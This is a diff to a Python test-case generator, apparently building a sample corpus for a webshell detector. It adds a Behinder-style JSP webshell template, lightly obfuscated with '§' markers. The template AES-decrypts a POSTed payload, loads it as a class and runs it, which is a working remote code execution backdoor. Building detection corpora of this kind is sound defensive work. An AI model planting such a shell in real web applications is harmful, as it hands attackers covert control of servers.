@@ -611,7 +611,7 @@ def _tool_cases(rng: random.Random) -> Iterator[Case]:
         ]
         yield Case("family.antsword", f"form={index % 3}", "php", f"ant{index}.php", forms[index % 3].encode())
 
-    for index in range(16):
+    for index in range(18):
         key = rng.choice([k("e45e329f§eb5d925b"), hashlib.md5(f"{index}".encode()).hexdigest()[:16]])
         forms = [
             (
@@ -648,6 +648,23 @@ def _tool_cases(rng: random.Random) -> Iterator[Case]:
                     + '";session.putV§alue("u",k);Cipher c=Cipher.getIn§stance("AES");'
                     'c.init(2,new SecretKeySpec(k.getBytes(),"AES"));'
                     "new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getRea§der().readLine()))).newInstance().equals(pageCon§text);}%>"
+                ),
+            ),
+            (
+                "jsp",
+                k(
+                    '<%@page import="java.util.*,java.io.*,javax.crypto.*,javax.crypto.spec.*"%>'
+                    "<%!class U extends Class§Loader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.define§Class(b,0,b.length);}}"
+                    'private byte[] Decrypt(byte[] data) throws Exception{String k="'
+                    + key
+                    + '";javax.crypto.Cipher c=javax.crypto.Cipher.getIn§stance("AES/ECB/PKCS5Padding");'
+                    'c.init(2,new javax.crypto.spec.Secret§KeySpec(k.getBytes(),"AES"));'
+                    'Class baseCls=Class.forName("java.util.Base64");Object Decoder=baseCls.getMethod("getDecoder",null).invoke(baseCls,null);'
+                    'byte[] decodebs=(byte[])Decoder.getClass().getMethod("decode",new Class[]{byte[].class}).invoke(Decoder,new Object[]{data});'
+                    "return c.doFinal(decodebs);}%>"
+                    '<%if (request.getMethod().equals("POST")){ByteArrayOutputStream bos=new ByteArrayOutputStream();byte[] buf=new byte[512];'
+                    "int length=request.getInputStream().read(buf);while(length>0){byte[] data=Arrays.copyOfRange(buf,0,length);bos.write(data);length=request.getInputStream().read(buf);}"
+                    "new U(this.getClass().getClassLoader()).g(Decrypt(bos.toByteArray())).newInstance().equals(pageCon§text);}%>"
                 ),
             ),
             (
